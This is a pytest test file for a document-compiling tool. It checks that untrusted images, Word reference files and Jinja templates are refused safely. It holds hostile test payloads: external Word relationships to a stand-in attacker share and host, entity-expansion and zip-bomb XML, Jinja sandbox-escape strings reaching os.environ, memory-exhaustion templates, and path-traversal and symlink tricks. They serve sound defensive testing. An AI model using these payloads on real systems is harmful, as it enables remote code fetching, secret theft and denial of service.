"""Untrusted input in documents (issue 10): images in reports, the reference document, campaign
templates, control characters.  Each attack is refused with a message naming the file (never a
path of the machine), and the documents are still made."""

from __future__ import annotations

import io
import shutil
import subprocess
import zipfile
from pathlib import Path

import docx
import pytest

from dytool.cli.main import run
from dytool.documents import templating
from dytool.documents.templating import MIN_JINJA, TemplateProblem, Templates, jinja_version
from util import EXAMPLE, check_json
from word.wordkit import JPEG, png

REPORT = "reports/T-001.md"


def example(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    shutil.copytree(EXAMPLE, root, ignore=shutil.ignore_patterns(".dytool"))
    return root


def add_images(root: Path, links: dict[str, bytes | None]) -> None:
    """Write each image (None: leave it missing) and link them all at the end of T-001's report."""
    lines = []
    for name, data in links.items():
        if data is not None:
            target = root / "reports" / name
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(data)
        lines.append(f"![图 {name}]({name})")
    with open(root / REPORT, "a", encoding="utf-8") as handle:
        handle.write("\n\n" + "\n\n".join(lines) + "\n")


def git(root: Path, *args: str) -> None:
    subprocess.run(["git", *args], cwd=root, check=True, capture_output=True)


BAD_IMAGES = {
    "missing.png": None,
    "cut.jpg": JPEG[:40],
    "bomb.png": png(60000, 60000, header_only=True),
    "notes.png": b"just text",
    "../outside.png": None,
    ".dytool/cached.png": png(),
}


def test_check_names_every_bad_image_with_file_and_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    root = example(tmp_path)
    (root / "outside.png").write_bytes(png())
    add_images(root, {"good.jpg": JPEG, **BAD_IMAGES})
    text = (root / REPORT).read_text(encoding="utf-8").split("\n")
    code, findings = check_json(capsys, root)
    bad = [f for f in findings if f["code"] == "DY207"]
    assert code == 1
    assert sorted(text[f["line"] - 1] for f in bad) == sorted(f"![图 {name}]({name})" for name in BAD_IMAGES)
    assert all(f["file"] == REPORT for f in bad)
    assert not any(str(tmp_path) in f["message"] for f in bad)


def test_reference_images_and_brackets_in_the_alt_text_are_checked_too(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The Word writer and the site read ``![alt][label]`` (its ``[label]: src`` anywhere in the
    report), ``![a [b]](src)`` and ``![a](<my image.png>)`` as images; check passed them."""
    root = example(tmp_path)
    (root / "reports" / "cut.jpg").write_bytes(JPEG[:40])
    (root / "reports" / "notes.png").write_bytes(b"just text")
    (root / "reports" / "good.png").write_bytes(png())
    lines = ["![截图][cut]", "![文本][]", "![图 [3]](notes.png)", "![空格](<my image.png>)", "![好][GOOD]", "![无定义][nowhere]"]
    definitions = ["[cut]: cut.jpg", "[文本]: <notes.png> \"标题\"", "[good]: good.png"]
    with open(root / REPORT, "a", encoding="utf-8") as handle:
        handle.write("\n\n" + "\n\n".join([*lines, "```", "![代码][cut]", "```", *definitions]) + "\n")
    text = (root / REPORT).read_text(encoding="utf-8").split("\n")
    code, findings = check_json(capsys, root)
    assert code == 1
    assert sorted(text[f["line"] - 1] for f in findings if f["code"] == "DY207") == sorted(lines[:4])


def test_an_image_git_ignores_is_not_repository_content(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    root = example(tmp_path)
    add_images(root, {"secret.png": png()})
    (root / ".gitignore").write_text("reports/secret.png\n", encoding="utf-8")
    git(root, "init", "-q")
    _, findings = check_json(capsys, root)
    assert [f["message"] for f in findings if f["code"] == "DY207"] == ["image secret.png is ignored by git, so it is not part of the repository"] \
        or any("忽略" in f["message"] for f in findings if f["code"] == "DY207")


def test_compile_never_crashes_on_an_image_and_names_the_report(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    root = example(tmp_path)
    add_images(root, {"good.jpg": JPEG, **BAD_IMAGES})
    code = run(["compile", "-C", str(root), "--as-of", "2023-12-31", "--format", "docx", "-o", str(tmp_path / "out")])
    err = capsys.readouterr().err
    assert code == 1  # a document with something left out is not a clean success
    assert err.count(REPORT) == len(BAD_IMAGES), err
    assert str(tmp_path) not in err
    [path] = (tmp_path / "out").glob("*.docx")
    document = docx.Document(str(path))
    assert len(document.inline_shapes) >= 1  # the good JPEG, and the charts


def _reference(tmp_path: Path, settings_extra: str = "", rels_extra: str = "", body_extra: str = "") -> bytes:
    base = tmp_path / "base.docx"
    docx.Document().save(str(base))
    out = io.BytesIO()
    with zipfile.ZipFile(base) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "word/settings.xml" and settings_extra:
                data = data.replace(b"<w:zoom ", settings_extra.encode() + b"<w:zoom ", 1)
            if item.filename in ("word/_rels/document.xml.rels", "word/_rels/settings.xml.rels") and rels_extra:
                data = data.replace(b"</Relationships>", rels_extra.encode() + b"</Relationships>")
            if item.filename == "word/document.xml" and body_extra:
                data = data.replace(b"<w:body>", b"<w:body>" + body_extra.encode(), 1)
            target.writestr(item, data)
        if rels_extra and "word/_rels/settings.xml.rels" not in source.namelist():
            target.writestr("word/_rels/settings.xml.rels", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' + rels_extra + "</Relationships>")
    return out.getvalue()


REMOTE = ('<Relationship Id="rId90" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
          'Target="\\\\attacker\\share\\t.dotm" TargetMode="External"/>'
          '<Relationship Id="rId91" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" '
          'Target="https://attacker.example/o.bin" TargetMode="External"/>'
          '<Relationship Id="rId92" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
          'Target="file:///C:/secret.txt" TargetMode="External"/>')


def _compile_with_reference(tmp_path: Path, capsys: pytest.CaptureFixture[str], data: bytes) -> tuple[int, str, zipfile.ZipFile]:
    root = example(tmp_path)
    (root / "templates").mkdir(exist_ok=True)
    (root / "templates" / "reference.docx").write_bytes(data)
    code = run(["compile", "-C", str(root), "--as-of", "2023-12-31", "--format", "docx", "-o", str(tmp_path / "out")])
    err = capsys.readouterr().err
    [path] = (tmp_path / "out").glob("*.docx")
    return code, err, zipfile.ZipFile(path)


def test_nothing_remote_of_the_reference_reaches_the_document(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    data = _reference(tmp_path, settings_extra='<w:attachedTemplate r:id="rId90"/>', rels_extra=REMOTE,
                      body_extra='<w:p><w:hyperlink r:id="rId92"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>')
    code, err, output = _compile_with_reference(tmp_path, capsys, data)
    assert code == 0, err
    everything = b"".join(output.read(name) for name in output.namelist())
    assert b"External" not in everything and b"attacker" not in everything and b"attachedTemplate" not in everything
    assert b"file:///" not in everything


@pytest.mark.parametrize(
    ("name", "make"),
    [
        ("not a zip", lambda tmp: b"PK\x03\x04 this is no zip"),
        ("truncated", lambda tmp: _reference(tmp)[:600]),
        ("bad XML", lambda tmp: _swap(_reference(tmp), "word/styles.xml", b"<w:styles><oops")),
        ("entities", lambda tmp: _swap(_reference(tmp), "word/styles.xml",
                                       b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><w:styles>&b;</w:styles>')),
        ("zip bomb", lambda tmp: _swap(_reference(tmp), "word/styles.xml", b"<w:styles>" + b" " * (64 * 1024 * 1024) + b"</w:styles>")),
    ],
)
def test_a_broken_reference_is_a_finding_and_the_built_in_format_is_used(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                                         name: str, make: object) -> None:
    assert callable(make)
    code, err, output = _compile_with_reference(tmp_path, capsys, make(tmp_path))
    assert code == 1 and "templates/reference.docx: DY208" in err, (name, err)
    assert str(tmp_path) not in err and "Traceback" not in err
    assert "仿宋_GB2312".encode() in output.read("word/styles.xml")


@pytest.mark.parametrize("how", ["link to a file outside", "dangling link", "folder", "linked templates folder"])
def test_a_linked_or_odd_reference_is_a_finding_never_read_nor_skipped_in_silence(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                                                  how: str) -> None:
    """A committed link went unnoticed: the built-in format was used with exit 0 and no word, and
    through a linked ``templates`` folder the reference was read from outside the repository."""
    root = example(tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "reference.docx").write_bytes(_reference(tmp_path))
    templates = root / "templates"
    if how == "linked templates folder":
        templates.symlink_to(outside, target_is_directory=True)
    else:
        templates.mkdir(exist_ok=True)
        target = templates / "reference.docx"
        if how == "folder":
            target.mkdir()
        else:
            target.symlink_to(outside / ("reference.docx" if how == "link to a file outside" else "missing.docx"))
    code = run(["compile", "-C", str(root), "--as-of", "2023-12-31", "--format", "docx", "-o", str(tmp_path / "out")])
    err = capsys.readouterr().err
    assert code == 1 and "templates/reference.docx: DY208" in err and str(tmp_path) not in err, err
    [path] = (tmp_path / "out").glob("*.docx")
    assert "仿宋_GB2312".encode() in zipfile.ZipFile(path).read("word/styles.xml")


def _swap(data: bytes, member: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item, content if item.filename == member else source.read(item.filename))
    return out.getvalue()


def test_the_installed_jinja_has_no_known_sandbox_escape() -> None:
    assert jinja_version() >= MIN_JINJA


def _templates(tmp_path: Path, source: str, name: str = "compilation/report.md.j2") -> Templates:
    path = tmp_path / "templates" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(source, encoding="utf-8")
    return Templates(tmp_path)


@pytest.mark.parametrize("payload", ["{{ 'a' * 8000000000 }}", "{{ [1] * 8000000000 }}", "{{ 9 ** 99999999 }}",
                                     "{{ 'a'.ljust(4000000000) }}", "{{ '{:>4000000000}'.format(1) }}"])
def test_a_template_cannot_take_the_memory(tmp_path: Path, payload: str) -> None:
    with pytest.raises(TemplateProblem) as info:
        _templates(tmp_path, payload).render("compilation/report.md.j2", {})
    assert str(tmp_path) not in info.value.en + info.value.zh + info.value.file


@pytest.mark.parametrize("payload", ["{{ '{0.__class__.__mro__}'|attr('format')('') }}",
                                     "{% set f = '{0.__init__.__globals__[os].environ}'|attr('format') %}{{ f(lipsum) }}"])
def test_the_format_escape_of_jinja_3_1_5_fails(tmp_path: Path, payload: str) -> None:
    with pytest.raises(TemplateProblem):
        _templates(tmp_path, payload).render("compilation/report.md.j2", {})


def test_one_time_budget_for_the_whole_document(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(templating, "TIME_LIMIT", 1.5)
    templates = _templates(tmp_path, "{% for i in range(60000) %}{% for j in range(30) %}{% endfor %}{% endfor %}x")
    with pytest.raises(TemplateProblem) as info:
        for _ in range(50):  # each rendering is well under the budget; together they are not
            templates.render("compilation/report.md.j2", {})
    assert "in all" in info.value.en


def test_template_messages_name_the_repository_file_only(tmp_path: Path) -> None:
    with pytest.raises(TemplateProblem) as info:
        _templates(tmp_path, "{{ nonexistent }}").render("compilation/report.md.j2", {})
    assert info.value.file == "templates/compilation/report.md.j2"
    assert str(tmp_path) not in info.value.en


def test_an_ignored_template_is_refused(tmp_path: Path) -> None:
    templates = _templates(tmp_path, "自定义")
    (tmp_path / ".gitignore").write_text("templates/compilation/\n", encoding="utf-8")
    git(tmp_path, "init", "-q")
    with pytest.raises(TemplateProblem) as info:
        templates.render("compilation/report.md.j2", {})
    assert "ignored by git" in info.value.en


CONTROLS = "甲\x0b乙\x1b[31m丙\ufffe丁"


def test_control_characters_in_records_never_corrupt_a_document(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    root = example(tmp_path)
    path = root / "problems" / "fgw.yaml"
    text = path.read_text(encoding="utf-8")
    first_title = text.split("title: ", 1)[1].split("\n", 1)[0]
    path.write_text(text.replace(first_title, '"' + CONTROLS.replace("\x0b", "\\v").replace("\x1b", "\\e").replace("\ufffe", "\\uFFFE") + '"', 1),
                    encoding="utf-8")
    out = tmp_path / "out"
    assert run(["compile", "-C", str(root), "--as-of", "2023-12-31", "--format", "all", "-o", str(out)]) == 0, capsys.readouterr().err
    assert run(["bulletin", "-C", str(root), "--as-of", "2023-12-31", "--month", "2023-06", "--format", "all", "-o", str(out)]) == 0
    capsys.readouterr()
    for markdown in out.glob("*.md"):
        content = markdown.read_text(encoding="utf-8")
        assert not any(char in content for char in "\x0b\x1b\ufffe")
    compiled = next(out.glob("青川*.md")).read_text(encoding="utf-8")
    assert "甲\\u000b乙\\u001b[31m丙\\ufffe丁" in compiled
    for document in out.glob("*.docx"):
        assert any("甲乙[31m丙丁" in p.text for table in docx.Document(str(document)).tables for row in table.rows for p in row.cells[1].paragraphs) \
            or document.name.startswith("工作动态")


@pytest.mark.parametrize("link", ["secret%2Epng", "secret&#46;png", "linked/secret.png"])
def test_an_ignored_or_outside_image_by_any_spelling_reaches_no_document_nor_the_site(tmp_path: Path, link: str,
                                                                                    capsys: pytest.CaptureFixture[str]) -> None:
    """An image git ignores, spelled with %2E or an entity that the Markdown reader decodes, or one
    in a folder that is a link to outside the repository, was put into the Word file and the
    site (which may be public)."""
    root = example(tmp_path)
    secret = png(7, 5)
    (root / "reports" / "secret.png").write_bytes(secret)
    (root / ".gitignore").write_text("reports/secret.png\n", encoding="utf-8")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.png").write_bytes(secret)
    (root / "reports" / "linked").symlink_to(outside, target_is_directory=True)
    git(root, "init", "-q")
    add_images(root, {link: None})
    code, findings = check_json(capsys, root)
    assert code == 1
    if "&#" not in link:  # check reads the link as written: that file does not exist, which is a finding too
        assert [f["line"] for f in findings if f["code"] == "DY207"] == [len((root / REPORT).read_text(encoding="utf-8").split("\n")) - 1]
    run(["compile", "-C", str(root), "--as-of", "2023-12-31", "--format", "docx", "-o", str(tmp_path / "out")])
    run(["site", "-C", str(root), "--as-of", "2023-12-31", "-o", str(tmp_path / "site")])
    capsys.readouterr()
    [document] = (tmp_path / "out").glob("*.docx")
    with zipfile.ZipFile(document) as package:
        assert not any(package.read(name) == secret for name in package.namelist())
    assert not any(path.read_bytes() == secret for path in (tmp_path / "site").rglob("*") if path.is_file())


@pytest.mark.parametrize("spoil", ["too large", "broken front matter"])
def test_a_report_compile_cannot_read_is_named_not_left_out_in_silence(tmp_path: Path, capsys: pytest.CaptureFixture[str], spoil: str) -> None:
    """A report a topic names but the loader refused (over the size limit, front matter that is
    not YAML) was dropped from the compilation with exit 0; now compile names it and exits 1,
    and the rest of the compilation is still written."""
    from dytool.cli.main import run
    from util import copy_example

    root = copy_example(tmp_path / "campaign")
    report = root / "reports" / "T-001.md"
    if spoil == "too large":
        report.write_text(report.read_text(encoding="utf-8") + "\n" + "正文" * 700_000 + "\n", encoding="utf-8")
    else:
        report.write_text("---\ntitle: [未闭合\n---\n\n正文\n", encoding="utf-8")
    out = tmp_path / "build"
    code = run(["-C", str(root), "--as-of", "2023-12-31", "--no-cache", "compile", "--format", "md", "-o", str(out)])
    err = capsys.readouterr().err
    assert code == 1
    assert "reports/T-001.md" in err and "未编入汇编" in err, err
    [made] = out.glob("*.md")
    assert made.stat().st_size > 10_000  # the rest of the compilation is there
